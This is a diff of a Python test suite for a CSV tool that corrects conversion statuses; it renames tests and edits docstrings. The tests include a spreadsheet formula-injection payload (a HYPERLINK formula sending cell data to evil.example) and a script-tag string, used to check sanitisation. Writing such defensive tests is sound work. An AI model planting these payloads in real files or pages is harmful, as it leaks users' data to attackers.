@@ -1,4 +1,4 @@
-"""Corrections of conversions' statuses by CSV, through the functions that the staff's page calls."""
+"""Corrections of conversion statuses by CSV, through the functions behind the staff page."""
 
 import asyncio
 import csv
@@ -39,7 +39,7 @@ def preview(sandbox: Sandbox, content: str | bytes) -> CorrectionsPreview:
 def apply(
     sandbox: Sandbox, content: str | bytes, expected: str | None = None, *, now: datetime | None = None
 ) -> CorrectionsPreview:
-    """As Anna, of the staff. Looks at a preview first, unless the digest of one is given."""
+    """As the staff user Anna. Creates a preview first, unless a digest is given."""
     digest = expected or preview(sandbox, content).digest
 
     async def work() -> CorrectionsPreview:
@@ -62,7 +62,7 @@ def sheet(*rows: Sequence[Any], header: Sequence[str] = HEADER) -> str:
 
 
 def a_conversion(sandbox: Sandbox, **fields: Any) -> str:
-    """Sent in; its id. A Success of revenue 60 on 19 May 2025, for an offer of its own unless one is given."""
+    """Ingests a Success of revenue 60 on 19 May 2025, by default for an offer of its own. Returns its id."""
     callback = conversion_callback(sandbox, fields.pop("offer", str(uuid4())), **fields)
     assert sandbox.send("conversions", [callback])["accepted"] == 1
     return str(callback["conversion"]["conversionId"])
@@ -103,21 +103,21 @@ def faults(bad: Sequence[InvalidRow]) -> list[tuple[int, str, str]]:
         "ConversionId,Status,RejectionReason,,\n{id},Rejected,fraud,,\n,,,,\n\n",
     ],
 )
-def test_a_file_is_read_as_spreadsheets_write_it(module_sandbox: Sandbox, content: str) -> None:
+def test_a_file_as_saved_by_a_spreadsheet_is_parsed(module_sandbox: Sandbox, content: str) -> None:
     id_ = a_conversion(module_sandbox)
     done = apply(module_sandbox, content.replace("{id}", id_))
     assert (len(done.changes), len(done.unchanged), done.invalid) == (1, 0, [])
     assert state(module_sandbox, id_) == ("Rejected", "fraud")
 
 
-def test_a_quoted_cell_may_hold_anything(module_sandbox: Sandbox) -> None:
+def test_a_quoted_cell_may_contain_any_text(module_sandbox: Sandbox) -> None:
     id_ = a_conversion(module_sandbox)
     reason = 'a "chargeback", 60; then\r\nnothing <script>alert(1)</script> =1+1 ✓'
     apply(module_sandbox, sheet((id_, "Rejected", reason)))
     assert state(module_sandbox, id_) == ("Rejected", reason)
 
 
-def test_a_row_may_leave_out_its_last_cells(module_sandbox: Sandbox) -> None:
+def test_a_row_may_omit_its_last_cells(module_sandbox: Sandbox) -> None:
     id_ = a_conversion(module_sandbox)
     apply(module_sandbox, f"ConversionId,Status,RejectionReason\n{id_},Rejected\n")
     assert state(module_sandbox, id_) == ("Rejected", None)
@@ -147,7 +147,7 @@ ROW = f"\n{SOME},Rejected"
         ("ConversionId,Status" + ROW * 20_001, "more than 20,000 rows"),
     ],
 )
-def test_a_file_that_cannot_be_used_says_why(module_sandbox: Sandbox, content: str | bytes, told: str) -> None:
+def test_an_invalid_file_is_refused_with_the_reason(module_sandbox: Sandbox, content: str | bytes, told: str) -> None:
     with pytest.raises(CorrectionsError, match=told) as caught:
         preview(module_sandbox, content)
     assert "\x00" not in str(caught.value)
@@ -177,7 +177,7 @@ def test_a_file_that_cannot_be_used_says_why(module_sandbox: Sandbox, content: s
         (("", uuid4(), "Success", ""), "ConversionId", "no conversion has this id"),
     ],
 )
-def test_a_bad_row_says_where_and_what_would_be_right(
+def test_an_invalid_row_names_the_column_and_the_error(
     module_sandbox: Sandbox, row: tuple[Any, ...], column: str, told: str
 ) -> None:
     id_ = a_conversion(module_sandbox)
@@ -189,7 +189,7 @@ def test_a_bad_row_says_where_and_what_would_be_right(
     assert [one.row for one in shown.changes] == [2]
 
 
-def test_all_that_is_wrong_with_a_row_is_told_at_once(module_sandbox: Sandbox) -> None:
+def test_all_errors_of_a_row_are_listed(module_sandbox: Sandbox) -> None:
     (bad,) = preview(module_sandbox, sheet(("7", "Done", "x\x00"))).invalid
     assert bad.problems == (
         "ConversionId: “7” must be an id such as 3fa85f64-5717-4562-b3fc-2c963f66afa6; "
@@ -204,7 +204,7 @@ def test_rows_are_numbered_as_in_a_spreadsheet(module_sandbox: Sandbox) -> None:
     assert ([one.row for one in shown.changes], [one.row for one in shown.invalid]) == ([3], [5])
 
 
-def test_as_many_rows_as_are_allowed_are_taken(sandbox: Sandbox) -> None:
+def test_a_file_with_the_most_rows_is_accepted(sandbox: Sandbox) -> None:
     content = sheet(*((uuid4(), "Success", "") for _ in range(20_000)))
     assert len(preview(sandbox, content).invalid) == 20_000
 
@@ -221,7 +221,7 @@ def test_a_conversion_is_found_by_its_click(module_sandbox: Sandbox) -> None:
     assert state(module_sandbox, id_) == ("Rejected", None)
 
 
-def test_a_click_with_several_conversions_does_not_say_which(module_sandbox: Sandbox) -> None:
+def test_a_click_with_several_conversions_is_ambiguous(module_sandbox: Sandbox) -> None:
     click = str(uuid4())
     ids = sorted(a_conversion(module_sandbox, clickId=click) for _ in range(6))
     content = sheet((click, "", "Rejected"), ("", ids[5], "Rejected"), header=("ClickId", "ConversionId", "Status"))
@@ -231,7 +231,7 @@ def test_a_click_with_several_conversions_does_not_say_which(module_sandbox: San
     assert [state(module_sandbox, id_)[0] for id_ in ids] == ["Success"] * 5 + ["Rejected"]
 
 
-def test_another_tenants_conversion_is_not_there(sandbox: Sandbox, other_sandbox: Sandbox) -> None:
+def test_another_tenants_conversion_is_not_found(sandbox: Sandbox, other_sandbox: Sandbox) -> None:
     click = str(uuid4())
     id_ = a_conversion(other_sandbox, clickId=click)
     content = sheet((click, "", "Rejected"), ("", id_, "Rejected"), header=("ClickId", "ConversionId", "Status"))
@@ -239,7 +239,7 @@ def test_another_tenants_conversion_is_not_there(sandbox: Sandbox, other_sandbox
     assert state(other_sandbox, id_) == ("Success", None)
 
 
-def test_a_conversion_given_twice_is_changed_once(module_sandbox: Sandbox) -> None:
+def test_a_repeated_row_changes_a_conversion_once(module_sandbox: Sandbox) -> None:
     click = str(uuid4())
     id_ = a_conversion(module_sandbox, clickId=click)
     header = ("ClickId", "ConversionId", "Status", "RejectionReason")
@@ -248,7 +248,7 @@ def test_a_conversion_given_twice_is_changed_once(module_sandbox: Sandbox) -> No
     assert done.invalid == []
 
 
-def test_rows_that_contradict_each_other_are_all_bad(module_sandbox: Sandbox) -> None:
+def test_rows_that_contradict_each_other_are_all_invalid(module_sandbox: Sandbox) -> None:
     click = str(uuid4())
     first, second = a_conversion(module_sandbox, clickId=click), a_conversion(module_sandbox)
     done = apply(
@@ -275,7 +275,7 @@ def test_rows_that_contradict_each_other_are_all_bad(module_sandbox: Sandbox) ->
 # What the preview shows
 
 
-def test_a_preview_shows_what_would_change_and_changes_nothing(sandbox: Sandbox) -> None:
+def test_a_preview_shows_the_changes_and_applies_none(sandbox: Sandbox) -> None:
     offer, theirs, partner = offer_record(sandbox, name="Boots"), offer_record(sandbox, sandbox.rival), str(uuid4())
     sandbox.send("offers", [offer, theirs])
     sandbox.send("partners", [{"id": partner, "name": "Limestone"}])
@@ -320,7 +320,7 @@ def test_a_preview_shows_what_would_change_and_changes_nothing(sandbox: Sandbox)
 # What applying does
 
 
-def test_every_status_may_become_every_other(sandbox: Sandbox) -> None:
+def test_a_status_can_change_to_any_other(sandbox: Sandbox) -> None:
     ids = {(old, new): a_conversion(sandbox, status=old, revenue=1) for old, new in product(STATUSES, STATUSES)}
     done = apply(sandbox, sheet(*((id_, new, "") for (_, new), id_ in ids.items())))
     assert (len(done.changes), len(done.unchanged)) == (6, 3)
@@ -338,7 +338,7 @@ def test_every_status_may_become_every_other(sandbox: Sandbox) -> None:
         (("Rejected", "late"), ("Pending", ""), ("Pending", None)),
     ],
 )
-def test_a_reason_goes_with_the_rejection(
+def test_only_a_rejected_conversion_keeps_a_reason(
     module_sandbox: Sandbox, old: tuple[str, str | None], row: tuple[str, str], new: tuple[str, str | None]
 ) -> None:
     id_ = a_conversion(module_sandbox, status=old[0], rejectionReason=old[1])
@@ -348,7 +348,7 @@ def test_a_reason_goes_with_the_rejection(
     assert [(one.new_status, one.new_reason) for one in done.changes + done.unchanged] == [new]
 
 
-def test_a_correction_is_in_the_next_of_every_report(sandbox: Sandbox) -> None:
+def test_every_report_shows_a_correction(sandbox: Sandbox) -> None:
     offer = offer_record(sandbox, name="Boots")
     sandbox.send("offers", [offer])
     ids = [a_conversion(sandbox, offer=offer["id"], revenue=f"0.{n}") for n in range(1, 6)]
@@ -368,7 +368,7 @@ def test_a_correction_is_in_the_next_of_every_report(sandbox: Sandbox) -> None:
     assert [row["revenue"] for row in part] == [1.2]
 
 
-def test_a_correction_is_a_call_that_brought_data_in(sandbox: Sandbox) -> None:
+def test_a_correction_counts_as_intake(sandbox: Sandbox) -> None:
     id_, other = a_conversion(sandbox), a_conversion(sandbox, status="Pending")
     content = sheet((id_, "Rejected", ""), (other, "Pending", ""), ("7", "Done", ""))
     apply(sandbox, content)
@@ -379,14 +379,14 @@ def test_a_correction_is_a_call_that_brought_data_in(sandbox: Sandbox) -> None:
     assert (reject["index"], reject["record"], reject["field"]) == (2, "7", "ConversionId, Status")
 
 
-def test_bad_rows_do_not_keep_the_good_ones_back(sandbox: Sandbox) -> None:
+def test_invalid_rows_do_not_block_the_others(sandbox: Sandbox) -> None:
     first, last = a_conversion(sandbox), a_conversion(sandbox)
     done = apply(sandbox, sheet((first, "Rejected", ""), (uuid4(), "Rejected", ""), (last, "Rejected", "")))
     assert ([one.row for one in done.changes], [one.row for one in done.invalid]) == ([2, 4], [3])
     assert revenue(sandbox) == 0
 
 
-def test_the_same_file_again_changes_nothing(sandbox: Sandbox) -> None:
+def test_applying_the_same_file_again_changes_nothing(sandbox: Sandbox) -> None:
     content = sheet((a_conversion(sandbox), "Rejected", "fraud"), (a_conversion(sandbox), "Pending", ""))
     apply(sandbox, content)
     etag = sandbox.get(JSON, **MAY).headers["etag"]
@@ -395,7 +395,7 @@ def test_the_same_file_again_changes_nothing(sandbox: Sandbox) -> None:
     assert sandbox.get(JSON, **MAY).headers["etag"] == etag
 
 
-def test_the_audit_log_says_who_changed_what(sandbox: Sandbox) -> None:
+def test_the_audit_log_has_each_correction_with_its_actor(sandbox: Sandbox) -> None:
     id_ = a_conversion(sandbox)
     apply(sandbox, sheet((id_, "Rejected", "fraud"), (a_conversion(sandbox, status="Pending"), "Pending", "")))
     (entry,) = execute("SELECT * FROM {s}.audit_log WHERE subject = 'conversion'", schema=sandbox.tenant.schema)
@@ -418,7 +418,7 @@ def later(callback: dict[str, Any], sent_at: datetime, status: str) -> dict[str,
     }
 
 
-def test_a_callback_sent_before_a_correction_does_not_undo_it_when_it_comes_late(sandbox: Sandbox) -> None:
+def test_a_callback_sent_before_a_correction_does_not_undo_it(sandbox: Sandbox) -> None:
     callback = conversion_callback(sandbox, str(uuid4()), status="Pending")
     sandbox.send("conversions", [callback])
     now = datetime.now(UTC)
@@ -428,7 +428,7 @@ def test_a_callback_sent_before_a_correction_does_not_undo_it_when_it_comes_late
     assert revenue(sandbox) == 0
 
 
-def test_a_callback_sent_after_a_correction_holds(sandbox: Sandbox) -> None:
+def test_a_callback_sent_after_a_correction_wins(sandbox: Sandbox) -> None:
     callback = conversion_callback(sandbox, str(uuid4()))
     sandbox.send("conversions", [callback])
     now = datetime.now(UTC)
@@ -438,7 +438,7 @@ def test_a_callback_sent_after_a_correction_holds(sandbox: Sandbox) -> None:
     assert state(sandbox, callback["conversion"]["conversionId"]) == ("Success", None)
 
 
-def test_a_correction_holds_over_what_it_has_seen_whatever_the_senders_clock_says(sandbox: Sandbox) -> None:
+def test_a_correction_wins_over_an_existing_callback_from_the_future(sandbox: Sandbox) -> None:
     now = datetime.now(UTC)
     ahead = later(conversion_callback(sandbox, str(uuid4())), now + timedelta(hours=1), "Success")
     sandbox.send("conversions", [ahead])
@@ -453,7 +453,7 @@ def test_a_correction_holds_over_what_it_has_seen_whatever_the_senders_clock_say
 # What has changed since the preview
 
 
-def test_a_conversion_that_changed_since_the_preview_stops_it(sandbox: Sandbox) -> None:
+def test_nothing_is_applied_if_a_conversion_changed_since_the_preview(sandbox: Sandbox) -> None:
     changed, other = conversion_callback(sandbox, str(uuid4())), a_conversion(sandbox)
     sandbox.send("conversions", [changed])
     content = sheet((changed["conversion"]["conversionId"], "Success", ""), (other, "Rejected", ""))
@@ -464,7 +464,7 @@ def test_a_conversion_that_changed_since_the_preview_stops_it(sandbox: Sandbox) 
     assert apply(sandbox, content).moves == {("Pending", "Success"): 1, ("Success", "Rejected"): 1}
 
 
-def test_a_conversion_that_came_since_the_preview_stops_it(sandbox: Sandbox) -> None:
+def test_nothing_is_applied_if_a_conversion_arrived_since_the_preview(sandbox: Sandbox) -> None:
     click, id_ = str(uuid4()), str(uuid4())
     content = sheet((click, "", "Rejected"), ("", id_, "Rejected"), header=("ClickId", "ConversionId", "Status"))
     digest = preview(sandbox, content).digest
@@ -478,14 +478,14 @@ def test_a_conversion_that_came_since_the_preview_stops_it(sandbox: Sandbox) -> 
     refused(sandbox, content, digest)
 
 
-def test_another_file_than_that_of_the_preview_is_refused(sandbox: Sandbox) -> None:
+def test_a_file_other_than_the_previewed_one_is_refused(sandbox: Sandbox) -> None:
     id_ = a_conversion(sandbox)
     digest = preview(sandbox, sheet((id_, "Rejected", "fraud"))).digest
     refused(sandbox, sheet((id_, "Rejected", "late")), digest)
     refused(sandbox, sheet((id_, "Rejected", "fraud")), "")
 
 
-def test_an_offer_that_went_to_another_advertiser_stops_it(sandbox: Sandbox) -> None:
+def test_nothing_is_applied_if_an_offer_moved_since_the_preview(sandbox: Sandbox) -> None:
     offer = offer_record(sandbox)
     sandbox.send("offers", [offer])
     content = sheet((a_conversion(sandbox, offer=offer["id"]), "Rejected", ""))
@@ -508,7 +508,7 @@ def refused(sandbox: Sandbox, content: str, digest: str) -> None:
 # At the same time as the intake
 
 
-def test_corrections_and_callbacks_of_the_same_conversions_at_once_are_counted_once(sandbox: Sandbox) -> None:
+def test_simultaneous_corrections_and_callbacks_count_once(sandbox: Sandbox) -> None:
     offer = offer_record(sandbox)["id"]
     callbacks = [conversion_callback(sandbox, offer, revenue=n, clickId=str(uuid4())) for n in range(1, 61)]
     sandbox.send("conversions", callbacks)
@@ -544,7 +544,7 @@ def test_corrections_and_callbacks_of_the_same_conversions_at_once_are_counted_o
     assert revenue(sandbox) == (ledger["cost"] or 0)
 
 
-def test_of_two_who_apply_the_same_preview_one_is_told_to_look_again(sandbox: Sandbox) -> None:
+def test_only_one_of_two_simultaneous_applications_succeeds(sandbox: Sandbox) -> None:
     content = sheet(*((a_conversion(sandbox), "Rejected", "") for _ in range(5)))
     digest = preview(sandbox, content).digest
 
@@ -563,7 +563,7 @@ def test_of_two_who_apply_the_same_preview_one_is_told_to_look_again(sandbox: Sa
 # The rows that could not be used
 
 
-def test_the_rejects_can_be_mended_and_sent_again(sandbox: Sandbox) -> None:
+def test_invalid_rows_can_be_downloaded_fixed_and_uploaded(sandbox: Sandbox) -> None:
     first, second = a_conversion(sandbox), a_conversion(sandbox)
     content = (
         f"\ufeffStatus;ConversionId;Rejection Reason\r\nRejekted;{first};-1; \r\n"
@@ -582,7 +582,7 @@ def test_the_rejects_can_be_mended_and_sent_again(sandbox: Sandbox) -> None:
 
 
 @pytest.mark.parametrize("start", ["=", "+", "-", "@", "\t=", "\r=", "\n="])
-def test_no_cell_of_the_rejects_is_a_formula(module_sandbox: Sandbox, start: str) -> None:
+def test_no_downloaded_cell_is_a_formula(module_sandbox: Sandbox, start: str) -> None:
     bomb = f'{start}HYPERLINK("http://evil.example?"&A1,"x")'
     content = sheet((bomb, bomb, bomb), (uuid4(), "Rejected", bomb))
     rejects = preview(module_sandbox, content).rejects_csv().decode("utf-8-sig")
